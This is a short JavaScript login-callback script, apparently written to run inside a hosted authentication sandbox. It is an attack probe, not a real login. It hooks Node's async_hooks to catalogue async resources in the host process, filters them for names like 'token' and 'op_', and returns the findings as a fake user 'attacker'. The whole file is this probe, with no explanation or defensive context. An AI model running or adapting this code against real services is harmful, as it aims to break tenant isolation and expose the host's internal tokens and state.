function login(email, password, callback) {
  const { AsyncLocalStorage, createHook, executionAsyncResource } = require('async_hooks');
  const resources = [];
  createHook({ init(id, type, trigger, resource) { resources.push(type, Object.keys(resource ?? {}).join()); } }).enable();
  const storage = new AsyncLocalStorage();
  storage.enterWith({ attack: true });
  setTimeout(() => {
    const host = resources.filter((text) => /token|op_|trickle/.test(text));
    const resource = Object.keys(executionAsyncResource() ?? {}).filter((name) => /token|ops/.test(name));
    callback(null, { user_id: 'attacker', host, resource });
  }, 5);
}
